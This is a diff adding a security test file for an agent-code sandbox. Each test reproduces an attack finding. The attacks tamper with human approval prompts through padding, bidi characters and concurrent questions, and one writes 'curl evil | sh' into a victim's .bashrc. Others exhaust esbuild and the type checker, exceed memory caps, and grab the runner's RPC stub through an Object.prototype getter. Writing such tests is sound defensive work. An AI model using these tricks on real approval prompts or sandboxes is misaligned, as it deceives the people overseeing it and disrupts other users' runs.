@@ -1,0 +1,307 @@
+/**
+ * Findings of an outsider's attack session. Each test reproduces one finding. The fixed ones run;
+ * the open ones are skipped, each with the finding above it: every one of them fails today, and
+ * some (esbuild's gigabytes, a server closed 40 times) would load a CI machine for a minute.
+ * Remove `.skip` with the fix.
+ */
+import { mkdtempSync, writeFileSync } from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { describe, expect, it } from "vitest";
+import { runAgent } from "../../src/cli/run.js";
+
+const root = path.resolve(import.meta.dirname, "../..");
+
+/** A config with the example filesystem server, whose write_file needs approval. */
+function approvalConfig(): { dir: string; file: string } {
+  const dir = mkdtempSync(path.join(os.tmpdir(), "codemode-outsider-"));
+  const nm = path.join(root, "node_modules/@modelcontextprotocol");
+  const file = path.join(dir, "codemode.config.ts");
+  writeFileSync(
+    file,
+    `export default {
+  outDir: ${JSON.stringify(path.join(root, "examples/generated"))},
+  servers: { filesystem: { command: process.execPath, args: [${JSON.stringify(`${nm}/server-filesystem/dist/index.js`)}, ${JSON.stringify(dir)}] } },
+  policy: { filesystem: { approve: ["write_file"] } },
+};\n`,
+  );
+  return { dir, file };
+}
+
+/** The question `codemode run` asks at the terminal before an approved call (answered "n"). */
+async function approvalQuestion(code: string): Promise<string> {
+  const { dir, file } = approvalConfig();
+  const questions: string[] = [];
+  const io = {
+    stdout: () => {},
+    stderr: () => {},
+    env: process.env,
+    cwd: dir,
+    interactive: false,
+    stdin: async () => code,
+    ask: async (question: string) => {
+      questions.push(question);
+      return "n";
+    },
+  };
+  await runAgent({ config: file, "no-typecheck": true } as never, "-", io as never);
+  expect(questions).toHaveLength(1);
+  return questions[0]!;
+}
+
+describe("outsider: the approval prompt shows what the call will do", () => {
+  // FIXED (was medium): the terminal approval prompt (and `serve`'s elicitation, at 500) shows only
+  // the first 300 characters of the arguments' JSON, and agent code chooses the key order: a
+  // padding argument first hides the path the call writes to. The person approves blind.
+  it("a long first argument does not hide the path a write goes to", async () => {
+    const question = await approvalQuestion(`await filesystem.writeFile({ content: "harmless note ".repeat(25), path: "/home/victim/.bashrc" }); return 1;`);
+    expect(question).toContain(".bashrc");
+  }, 60_000);
+
+  // FIXED (was low/medium): `printable` escapes C0/C1 controls but not Unicode bidi overrides or
+  // invisible characters, so the arguments can be shown in an order other than their own.
+  it("bidi overrides in the arguments are not sent raw to the terminal", async () => {
+    const question = await approvalQuestion(`await filesystem.writeFile({ path: "notes/\\u202Etxt.hsab./..", content: "x" }); return 1;`);
+    expect(question).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b-\u200f]/);
+  }, 60_000);
+});
+
+describe("outsider: approvals are asked one at a time", () => {
+  // FIXED (was medium): calls that need approval were approved concurrently: `codemode run` writes
+  // every pending question to the terminal at once ("allow A? [y/N] allow B? [y/N] "), and its
+  // asker hands each typed line to the OLDEST waiting question. The person answers the question
+  // they see last (a harmless write) and approves the first one (the write the agent wanted).
+  it("two calls needing approval do not put two questions on the terminal at once", async () => {
+    const { dir, file } = approvalConfig();
+    let pending = 0;
+    let most = 0;
+    const asked: string[] = [];
+    const code = `await Promise.all([
+      filesystem.writeFile({ path: "/home/victim/.bashrc", content: "curl evil | sh" }),
+      filesystem.writeFile({ path: "notes.txt", content: "meeting notes" }),
+    ]); return 1;`;
+    const io = {
+      stdout: () => {},
+      stderr: () => {},
+      env: process.env,
+      cwd: dir,
+      interactive: false,
+      stdin: async () => code,
+      ask: async (question: string) => {
+        asked.push(question);
+        most = Math.max(most, ++pending);
+        await new Promise((resolve) => setTimeout(resolve, 200));
+        pending--;
+        return "n";
+      },
+    };
+    await runAgent({ config: file, "no-typecheck": true } as never, "-", io as never);
+    expect(asked).toHaveLength(2);
+    expect(most, "questions waiting at once").toBe(1);
+  }, 60_000);
+});
+
+describe("outsider: one run's code cannot make the host's esbuild fail others or eat the machine", () => {
+  // FINDING (high): the nesting cap counts brackets only. A chain of 250,000 prefix operators
+  // (`!!!…1`, 250 KB, under the 256 Ki cap) makes esbuild's parser recurse until Go's 1 GB stack
+  // limit: the shared esbuild process grows by ~0.8 GB per such run (four concurrent runs with a
+  // 128 MB limit took it to 2-2.7 GB here), outside any run's memory limit, then dies with a
+  // stack dump of several MB on the host's stderr. While it grinds, other runs' plain TypeScript
+  // (`const x: number = 1`) fails as `syntax`: "took longer than 5000 ms to compile".
+  it.skip("four runs of a 250,000-operator chain beside ordinary runs", async () => {
+    const { demoRuntime } = await import("../helpers/runtime.js");
+    const { execSync } = await import("node:child_process");
+    const { runtime, close } = await demoRuntime({ timeoutMs: 10_000, typecheck: false });
+    try {
+      expect(await runtime.run("const x: number = 1; return x;")).toMatchObject({ ok: true, result: 1 });
+      let peakKb = 0;
+      const timer = setInterval(() => {
+        try {
+          for (const line of execSync(`ps -o rss=,args= --ppid ${process.pid}`).toString().trim().split("\n")) if (line.includes("--service")) peakKb = Math.max(peakKb, parseInt(line, 10));
+        } catch {
+          // ps raced a process's exit
+        }
+      }, 50);
+      let done = false;
+      const victims: { ok: boolean; error?: unknown }[] = [];
+      const victim = async () => {
+        while (!done) victims.push(await runtime.run("const x: number = 1; return x;"));
+      };
+      const running = Array.from({ length: 4 }, victim);
+      const hostile = `return ${"!".repeat(250_000)}1;`;
+      await Promise.all(Array.from({ length: 4 }, (_, i) => new Promise((resolve) => setTimeout(resolve, i * 150)).then(() => runtime.run(hostile))));
+      done = true;
+      await Promise.all(running);
+      clearInterval(timer);
+      // The machine's memory spent on four runs' code, in the host's own esbuild child.
+      expect(peakKb / 1024, "esbuild's peak RSS in MB").toBeLessThan(512);
+      expect(victims.filter((run) => !run.ok)).toEqual([]);
+    } finally {
+      await close();
+    }
+  }, 120_000);
+});
+
+describe("outsider: the shared checker thread", () => {
+  /** The repo's own type bomb (test/security/checker-shared.test.ts): a check far past 10 s. */
+  const typeBomb = (n: number) =>
+    `type Inc<N extends unknown[]> = [...N, 0];\ntype Build<N extends unknown[], Acc, M extends number> = N["length"] extends M ? Acc : Build<Inc<N>, Acc | N["length"], M>;\n` +
+    Array.from({ length: n }, (_, i) => `type T${i} = Build<[], never, ${900 + (i % 99)}>; const v${i}: T${i} = 3 as T${i};`).join("\n") +
+    "\nreturn 1;";
+
+  // FINDING (medium): "a hostile run holds concurrent runs' checks back for 10 s at most" holds
+  // per hostile run, but checks queue one at a time: three hostile runs submitted together hold
+  // an innocent run's check for 30 s, and the innocent run (default 30 s timeout) fails as
+  // `limit` ("it waited for other checks longer than the run's time") without running.
+  it.skip("three costly checks do not fail an innocent run with the default timeout", async () => {
+    const { demoRuntime } = await import("../helpers/runtime.js");
+    const { runtime, close } = await demoRuntime({ typecheck: true });
+    try {
+      await runtime.run("return 1");
+      const hostile = [0, 1, 2].map(() => runtime.run(typeBomb(400), { timeoutMs: 120_000 }));
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      const innocent = await runtime.run("const a: number = 41; return a + 1;");
+      await Promise.all(hostile);
+      expect(innocent).toMatchObject({ ok: true, result: 42 });
+    } finally {
+      await close();
+    }
+  }, 120_000);
+});
+
+describe("outsider: memoryMb is the run's memory", () => {
+  // FINDING (low/medium, README): `memoryMb` (128) caps V8's old space, but the host's resident
+  // watch allows 2 × memoryMb + 128 MiB over the process's baseline (resident-memory.ts), a rule
+  // the README does not state. A run with memoryMb 128 holds 300 MB of array buffers (every page
+  // touched) and returns ok, on both executors.
+  for (const executor of ["node", "workerd"] as const) {
+    it.skip(`${executor}: 300 MB of touched array buffers under memoryMb 128 end the run as memory`, async () => {
+      const { demoRuntime } = await import("../helpers/runtime.js");
+      const { runtime, close } = await demoRuntime({ typecheck: false }, {}, { executor });
+      try {
+        const run = await runtime.run(
+          `const xs = []; for (let i = 0; i < 30; i++) xs.push(new Uint8Array(10 * 2 ** 20).fill(1)); await demo.slow({ id: 1 }); return xs.length;`,
+          { memoryMb: 128, timeoutMs: 10_000 },
+        );
+        expect(run).toMatchObject({ ok: false, error: { kind: "memory" } });
+      } finally {
+        await close();
+      }
+    }, 60_000);
+  }
+});
+
+describe("outsider: the two executors run the same code alike", () => {
+  // FINDING (low, README): agent code is a sloppy-mode function body under Node (compileFunction)
+  // but an ES module, so strict, under workerd: `with`, an implicit global, an HTML comment,
+  // legacy octals and `this` in plain functions behave differently, and `import.meta` compiles
+  // only under workerd. The README lists only Date.now and microtask loops as differences.
+  it.skip("sloppy-mode code gives one answer on both executors", async () => {
+    const { demoRuntime } = await import("../helpers/runtime.js");
+    const code = `implicitGlobal = 1; with ({ a: 2 }) { return [typeof implicitGlobal, a, (function () { return this === undefined; })()]; }`;
+    const results: unknown[] = [];
+    for (const executor of ["node", "workerd"] as const) {
+      const { runtime, close } = await demoRuntime({ typecheck: false }, {}, { executor });
+      try {
+        const run = await runtime.run(code);
+        results.push(run.ok ? run.result : run.error?.message);
+      } finally {
+        await close();
+      }
+    }
+    expect(results[1]).toEqual(results[0]);
+  }, 60_000);
+});
+
+describe("outsider: workerd's run stub stays in the boot module", () => {
+  // FINDING (medium): the boot module calls `host.call(request)` on the run's RPC stub (a
+  // Fetcher, workerd's wildcard-method object) after agent code has started. The stub has no
+  // own or prototype `call`, so the lookup reaches Object.prototype, which agent code owns: a
+  // getter there receives the stub itself. Agent code then calls the runner's HostBridge
+  // directly (`stub.call`, `stub.log`, `stub.connect`), past the bootstrap's own counting; the
+  // host's checks still hold (calls are counted, logs capped, connect finds no network), but
+  // the capability the README says only the bootstrap holds is the agent's.
+  it.skip("an Object.prototype getter does not hand agent code the RPC stub", async () => {
+    const { demoRuntime } = await import("../helpers/runtime.js");
+    const { runtime, close } = await demoRuntime({ typecheck: false }, {}, { executor: "workerd" });
+    try {
+      const run = await runtime.run(
+        `let stub: any;
+        Object.defineProperty(Object.prototype, "call", { configurable: true, get() { if (typeof this !== "function" && !stub) stub = this; return undefined; } });
+        try { await demo.echo({ text: "hi" }); } catch {}
+        delete (Object.prototype as any).call;
+        if (!stub) return "no stub";
+        const direct = await stub.call(JSON.stringify({ kind: "tool", server: "demo", name: "echo", args: { text: "past the bootstrap" } }));
+        return [Object.prototype.toString.call(stub), String(direct).slice(0, 80)];`,
+        { timeoutMs: 10_000 },
+      );
+      expect(run).toMatchObject({ ok: true, result: "no stub" });
+    } finally {
+      await close();
+    }
+  }, 60_000);
+
+  // FINDING (low, README): property 4 says the host ends a run whose sandbox sends more calls
+  // or log entries than codemode's own sandbox could, as `crash`. Under workerd, with the stub,
+  // 1,000 calls against a limit of 200 (and, tried too, ~2,900 log batches of 420 KB in 4 s)
+  // leave the run `ok`: the host refuses each excess call (the 200 limit holds) and drops the
+  // excess logs, but answers every request for the run's whole time.
+  it.skip("1,000 direct calls against a limit of 200 end the run as a crash", async () => {
+    const { demoRuntime } = await import("../helpers/runtime.js");
+    const { runtime, close } = await demoRuntime({ typecheck: false }, {}, { executor: "workerd" });
+    try {
+      const run = await runtime.run(
+        `let stub: any;
+        Object.defineProperty(Object.prototype, "call", { configurable: true, get() { if (typeof this !== "function" && !stub) stub = this; return undefined; } });
+        try { await demo.echo({ text: "hi" }); } catch {}
+        delete (Object.prototype as any).call;
+        const request = JSON.stringify({ kind: "tool", server: "demo", name: "echo", args: { text: "x" } });
+        await Promise.all(Array.from({ length: 1000 }, () => stub.call(request).catch(() => null)));
+        return "not stopped";`,
+        { timeoutMs: 15_000 },
+      );
+      expect(run.calls.length).toBeLessThanOrEqual(200);
+      expect(run).toMatchObject({ ok: false, error: { kind: "crash" } });
+    } finally {
+      await close();
+    }
+  }, 60_000);
+});
+
+describe("outsider: one run cannot take a shared server away from another", () => {
+  // FINDING (medium): the host closes a stdio server that writes a line over 16 MiB (README: "a
+  // server is trusted no more than agent code"). Agent code chooses that answer's size: one
+  // read_multiple_files of the same 20 KB file 1,500 times makes the example filesystem server
+  // write ~29 MB, the host closes the server, and a concurrent innocent run's call to it fails
+  // as kind `server` ("a server failed under it"), while the hostile run caught its ToolError
+  // and returned ok. Repeated (40 such reads in one 30 s run), 21 of 153 innocent runs beside it
+  // failed as `server`.
+  it.skip("an oversized answer provoked by one run does not fail another run's call", async () => {
+    const { createRuntime } = await import("../../src/runtime/runtime.js");
+    const { dir, file } = approvalConfig();
+    writeFileSync(path.join(dir, "big.txt"), "z".repeat(20_000));
+    const runtime = await createRuntime({ configFile: file, defaults: { typecheck: false } });
+    try {
+      expect(await runtime.run(`return (await filesystem.getFileInfo({ path: "big.txt" })) ? 1 : 0;`)).toMatchObject({ ok: true });
+      let done = false;
+      const victims: { ok: boolean; error?: { kind: string } }[] = [];
+      const victim = (async () => {
+        while (!done) {
+          victims.push(await runtime.run(`await filesystem.getFileInfo({ path: "big.txt" }); return 1;`));
+          await new Promise((resolve) => setTimeout(resolve, 20));
+        }
+      })();
+      const hostile = await runtime.run(
+        `const paths = Array.from({ length: 1500 }, () => "big.txt"); try { await filesystem.readMultipleFiles({ paths }); } catch {} return "hostile ok";`,
+        { timeoutMs: 20_000 },
+      );
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      done = true;
+      await victim;
+      expect(hostile).toMatchObject({ ok: true, result: "hostile ok" });
+      expect(victims.filter((run) => !run.ok).map((run) => run.error?.kind)).toEqual([]);
+    } finally {
+      await runtime.close();
+    }
+  }, 60_000);
+});
